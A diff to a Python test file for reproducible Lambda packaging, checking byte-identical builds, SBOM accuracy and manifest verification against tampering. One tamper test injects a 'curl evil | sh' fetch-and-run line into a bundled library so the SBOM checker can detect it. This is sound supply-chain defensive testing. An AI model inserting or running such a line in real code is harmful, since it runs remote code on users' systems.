@@ -2,10 +2,16 @@
 
 from __future__ import annotations
 
+import base64
+import csv
 import datetime
 import hashlib
 import importlib.util
+import io
+import json
 import os
+import re
+import shutil
 import subprocess
 import sys
 import zipfile
@@ -17,6 +23,8 @@ from cryptography import x509
 from cryptography.hazmat.primitives import hashes, serialization
 from cryptography.hazmat.primitives.asymmetric import ec
 from cryptography.x509.oid import NameOID
+
+from tests.gates.source_tree import clone, overlay_venv, snapshot_repo
 
 REPO = Path(__file__).resolve().parents[2]
 SCRIPT = REPO / "scripts" / "package_lambdas.py"
@@ -38,20 +46,82 @@ def sha256(path: Path) -> str:
     return hashlib.sha256(path.read_bytes()).hexdigest()
 
 
+WHEEL_CACHE = REPO / "build" / "lambda-wheels"
+OUTPUTS = ("ingest.zip", "api.zip", "ingest.cdx.json", "api.cdx.json", "manifest.json", "SHA256SUMS")
+
+
+def build_in(folder: Path, snapshot: Path, *, umask: int, env: dict[str, str]) -> Path:
+    """Clone the snapshot into `folder` under `umask`, give it its own interpreter path and wheel cache (a
+    copy), and build there with package_lambdas.py as `make package` would. Returns the dist directory."""
+    source = clone(snapshot, folder / "rampart", umask=umask)
+    python = overlay_venv(folder / "venv")
+    cache = folder / "wheels"
+    shutil.copytree(WHEEL_CACHE, cache, copy_function=os.link)
+    result = subprocess.run(
+        [str(python), "scripts/package_lambdas.py", "--cache-dir", str(cache)],
+        cwd=source, env=env, capture_output=True, text=True, check=False, umask=umask,
+    )  # fmt: skip
+    assert result.returncode == 0, result.stdout + result.stderr
+    return source / "dist" / "lambda"
+
+
 @pytest.fixture(scope="module")
 def two_builds(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
-    """Two full builds (wheels from the shared cache) into separate directories."""
-    first = tmp_path_factory.mktemp("build-1")
-    second = tmp_path_factory.mktemp("build-2")
-    package_lambdas.main(["--out-dir", str(first)])
-    package_lambdas.main(["--out-dir", str(second)])
+    """The working tree built twice, as two strangers would: two clones in folders whose paths differ in length,
+    each with its own interpreter path and wheel-cache path, under umask 022 and 077, different time zones,
+    locales, home folders, hash seeds and SOURCE_DATE_EPOCH."""
+    package_lambdas.wheel_cache(WHEEL_CACHE)  # download once (the only step that needs the index)
+    snapshot = tmp_path_factory.mktemp("snapshot") / "rampart"
+    snapshot_repo(snapshot)
+    short = tmp_path_factory.mktemp("b")
+    long = tmp_path_factory.mktemp("a-much-longer-build-folder-name-" + "x" * 60)
+    base_env = {k: v for k, v in os.environ.items() if not k.startswith(("LC_", "LANG", "TZ", "SOURCE_DATE"))}
+    first = build_in(
+        short, snapshot, umask=0o022,
+        env={**base_env, "TZ": "UTC", "LANG": "C.UTF-8", "HOME": str(short), "PYTHONHASHSEED": "0"},
+    )  # fmt: skip
+    second = build_in(
+        long, snapshot, umask=0o077,
+        env={
+            **base_env, "TZ": "Pacific/Kiritimati", "LANG": "de_DE.UTF-8", "LC_ALL": "tr_TR.UTF-8",
+            "HOME": str(long), "PYTHONHASHSEED": "4242", "SOURCE_DATE_EPOCH": "1700000000",
+        },
+    )  # fmt: skip
+    assert len(str(first)) != len(str(second))
+    assert (second.parent.parent / "pyproject.toml").stat().st_mode & 0o077 == 0, "umask 077 did not apply"
     return first, second
 
 
-def test_two_builds_are_byte_identical(two_builds: tuple[Path, Path]) -> None:
+def test_two_builds_in_different_folders_are_byte_identical(two_builds: tuple[Path, Path]) -> None:
     first, second = two_builds
-    for name in ("ingest.zip", "api.zip"):
-        assert sha256(first / name) == sha256(second / name), f"{name} is not reproducible"
+    for name in OUTPUTS:
+        assert sha256(first / name) == sha256(second / name), f"{name} depends on where or how it was built"
+    manifest = json.loads((first / "manifest.json").read_text())
+    assert manifest["source_clean"] is True  # a clone of one commit: a release-grade build
+    assert manifest["artifacts"]["ingest.zip"]["sha256"] == sha256(first / "ingest.zip")
+
+
+def test_no_record_lists_a_file_that_is_not_shipped(two_builds: tuple[Path, Path]) -> None:
+    """jmespath's RECORD listed bin/jp.py, whose shebang names the build's interpreter (issue 15)."""
+    with zipfile.ZipFile(two_builds[0] / "ingest.zip") as archive:
+        names = set(archive.namelist())
+        records = [n for n in names if n.endswith(".dist-info/RECORD")]
+        assert any(r.startswith("jmespath-") for r in records)
+        for record in records:
+            rows = [row for row in csv.reader(io.StringIO(archive.read(record).decode())) if row]
+            listed = [row[0] for row in rows]
+            assert listed[:-1] == sorted(listed[:-1]) and listed[-1] == record, record
+            assert set(listed) <= names, (record, sorted(set(listed) - names))
+
+
+def test_a_shipped_file_that_names_the_build_folder_fails_the_build(tmp_path: Path) -> None:
+    leaky = tmp_path / "direct_url.json"
+    leaky.write_text(json.dumps({"url": f"file://{tmp_path}/wheels/x.whl"}))
+    clean = tmp_path / "ok.py"
+    clean.write_text("A = 1\n")
+    package_lambdas.check_no_build_paths({"ok.py": clean}, [tmp_path])
+    with pytest.raises(SystemExit, match="contains the build path"):
+        package_lambdas.check_no_build_paths({"ok.py": clean, "x.dist-info/direct_url.json": leaky}, [tmp_path])
 
 
 def test_package_contents(two_builds: tuple[Path, Path]) -> None:
@@ -75,9 +145,157 @@ def test_package_contents(two_builds: tuple[Path, Path]) -> None:
         assert not name.startswith(("rampart/local/", "rampart/cli/", "bin/")), name
         assert name != "rampart/client.py", name
         assert "__pycache__" not in name and not name.endswith(".pyc"), name
+        assert not name.endswith("direct_url.json"), name
         assert not name.startswith(("boto3/", "botocore/")), "boto3 comes with the Lambda runtime"
     assert {info.date_time for info in infos} == {(1980, 1, 1, 0, 0, 0)}
     assert {info.external_attr >> 16 for info in infos} == {0o100644}
+    assert {info.compress_type for info in infos} == {zipfile.ZIP_DEFLATED}
+
+
+# ---------------------------------------------------------------------------------------------
+# The SBOM beside each zip, and the build manifest (make verify-artifacts)
+# ---------------------------------------------------------------------------------------------
+
+sbom = package_lambdas.sbom
+build_manifest = package_lambdas.build_manifest
+LOCK = REPO / "requirements" / "lambda.txt"
+
+
+def wheels() -> dict[tuple[str, str], Path]:
+    return sbom.wheel_index(package_lambdas.wheel_cache(WHEEL_CACHE))
+
+
+@pytest.mark.parametrize("name", ["ingest", "api"])
+def test_sbom_lists_exactly_the_distributions_in_the_zip(two_builds: tuple[Path, Path], name: str) -> None:
+    dist = two_builds[0]
+    zip_path, sbom_path = dist / f"{name}.zip", dist / f"{name}.cdx.json"
+    assert sbom.check_sbom(zip_path, sbom_path, wheels=wheels(), lock=LOCK) == []
+    bom = json.loads(sbom_path.read_text())
+    assert bom["specVersion"] == "1.6" and bom["metadata"]["component"]["name"] == f"rampart-{name}"
+    assert "serialNumber" not in bom and "timestamp" not in bom["metadata"]  # reproducible
+    with zipfile.ZipFile(zip_path) as archive:
+        dist_infos = {n.split("/")[0] for n in archive.namelist() if n.split("/")[0].endswith(".dist-info")}
+    listed = {p["value"] for c in bom["components"] for p in c["properties"] if p["name"] == "rampart:dist-info"}
+    assert listed == dist_infos and len(bom["components"]) == len(dist_infos)
+
+
+def _edit_bom(source: Path, target: Path, edit: str) -> None:
+    bom = json.loads(source.read_text())
+    components = bom["components"]
+    if edit == "missing":
+        components.pop()
+    elif edit == "extra":
+        components.append({**components[0], "name": "left-pad", "purl": "pkg:pypi/left-pad@1.0", "version": "1.0"})
+    elif edit == "version":
+        components[0]["version"] = "0.0.1"
+    elif edit == "hash":
+        components[0]["hashes"] = [{"alg": "SHA-256", "content": "0" * 64}]
+    elif edit == "subject":
+        bom["metadata"]["component"]["hashes"] = [{"alg": "SHA-256", "content": "1" * 64}]
+    target.write_text(json.dumps(bom))
+
+
+@pytest.mark.parametrize(
+    ("edit", "message"),
+    [
+        ("missing", "is in the zip but not in the SBOM"),
+        ("extra", "is in the SBOM but not in the zip"),
+        ("version", "is in the SBOM but not in the zip"),
+        ("hash", "is not pinned by the lock"),
+        ("subject", "subject hash"),
+    ],
+)
+def test_sbom_check_catches_an_sbom_that_lies(
+    two_builds: tuple[Path, Path], tmp_path: Path, edit: str, message: str
+) -> None:
+    dist = two_builds[0]
+    lie = tmp_path / "ingest.cdx.json"
+    _edit_bom(dist / "ingest.cdx.json", lie, edit)
+    problems = sbom.check_sbom(dist / "ingest.zip", lie, wheels=wheels(), lock=LOCK)
+    assert any(message in p for p in problems), problems
+
+
+def test_sbom_check_catches_a_zip_whose_files_are_not_the_wheels(two_builds: tuple[Path, Path], tmp_path: Path) -> None:
+    """A file of a listed distribution changed inside the zip: its RECORD row and the wheel both disagree."""
+    dist = two_builds[0]
+    tampered = tmp_path / "ingest.zip"
+    with zipfile.ZipFile(dist / "ingest.zip") as source, zipfile.ZipFile(tampered, "w") as target:
+        for info in source.infolist():
+            data = source.read(info)
+            if info.filename == "jmespath/__init__.py":
+                data += b"\nimport os; os.system('curl evil | sh')\n"
+            target.writestr(info, data)
+    sbom_copy = tmp_path / "ingest.cdx.json"
+    bom = json.loads((dist / "ingest.cdx.json").read_text())
+    bom["metadata"]["component"]["hashes"] = [{"alg": "SHA-256", "content": sha256(tampered)}]
+    sbom_copy.write_text(json.dumps(bom))
+    problems = sbom.check_sbom(tampered, sbom_copy, wheels=wheels(), lock=LOCK)
+    assert any("RECORD hash of jmespath/__init__.py" in p for p in problems), problems
+    assert any("jmespath/__init__.py differs from jmespath-" in p for p in problems), problems
+
+
+def verify(dist: Path, *extra: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [sys.executable, str(REPO / "scripts" / "build_manifest.py"), "verify", "--dir", str(dist), *extra],
+        capture_output=True, text=True, check=False,
+    )  # fmt: skip
+
+
+@pytest.mark.parametrize("tamper", ["none", "zip", "sbom", "extra-file", "missing-zip", "commit"])
+def test_verify_artifacts_checks_dist_against_the_manifest(
+    two_builds: tuple[Path, Path], tmp_path: Path, tamper: str
+) -> None:
+    dist = shutil.copytree(two_builds[0], tmp_path / "lambda")
+    commit = json.loads((dist / "manifest.json").read_text())["commit"]
+    expect = ["--commit", commit]
+    if tamper == "zip":
+        with (dist / "api.zip").open("ab") as handle:
+            handle.write(b"\0")
+    elif tamper == "sbom":
+        (dist / "api.cdx.json").write_text((dist / "api.cdx.json").read_text().replace('"1.6"', '"1.5"'))
+    elif tamper == "extra-file":
+        (dist / "evil.zip").write_bytes(b"PK")
+    elif tamper == "missing-zip":
+        (dist / "ingest.zip").unlink()
+    elif tamper == "commit":
+        expect = ["--commit", "0" * 40]
+    result = verify(dist, *expect)
+    assert (result.returncode == 0) is (tamper == "none"), result.stdout + result.stderr
+    if tamper != "none":
+        assert "FAIL" in result.stdout
+
+
+def test_the_manifest_records_what_the_issue_asks(two_builds: tuple[Path, Path]) -> None:
+    manifest = json.loads((two_builds[0] / "manifest.json").read_text())
+    assert re.fullmatch(r"[0-9a-f]{40}", manifest["commit"])
+    assert set(manifest["locks"]) == {"requirements/lambda.txt", "requirements/dev.txt"}
+    assert manifest["locks"]["requirements/lambda.txt"] == sha256(LOCK)
+    assert manifest["target"]["python_version"] == "3.12"
+    assert "manylinux_2_28_aarch64" in manifest["target"]["platforms"]
+    assert manifest["target"]["wheel_tags"] and manifest["builder"]["zlib"]
+    for name in ("ingest.zip", "api.zip"):
+        entry = manifest["artifacts"][name]
+        data = (two_builds[0] / name).read_bytes()
+        assert entry["sha256"] == hashlib.sha256(data).hexdigest() and entry["size"] == len(data)
+        assert entry["code_sha256"] == base64.b64encode(hashlib.sha256(data).digest()).decode()
+        assert entry["sbom"]["sha256"] == sha256(two_builds[0] / entry["sbom"]["file"])
+    sums = (two_builds[0] / "SHA256SUMS").read_text().splitlines()
+    assert f"{manifest['artifacts']['api.zip']['sha256']}  api.zip" in sums
+
+
+def test_payload_digest_ignores_what_lies_outside_the_members(tmp_path: Path) -> None:
+    """A signature appended outside the members (zip comment) keeps the payload digest; a changed member not."""
+    tree = tmp_path / "a.py"
+    tree.write_text("A = 1\n")
+    package_lambdas.write_zip(tmp_path / "one.zip", {"a.py": tree})
+    with zipfile.ZipFile(tmp_path / "one.zip", "a") as archive:
+        archive.comment = b"signature-stand-in"
+    package_lambdas.write_zip(tmp_path / "two.zip", {"a.py": tree})
+    assert sha256(tmp_path / "one.zip") != sha256(tmp_path / "two.zip")
+    assert build_manifest.payload_sha256(tmp_path / "one.zip") == build_manifest.payload_sha256(tmp_path / "two.zip")
+    tree.write_text("A = 2\n")
+    package_lambdas.write_zip(tmp_path / "three.zip", {"a.py": tree})
+    assert build_manifest.payload_sha256(tmp_path / "three.zip") != build_manifest.payload_sha256(tmp_path / "two.zip")
 
 
 def test_zip_writer_ignores_mtime_mode_and_order(tmp_path: Path) -> None:
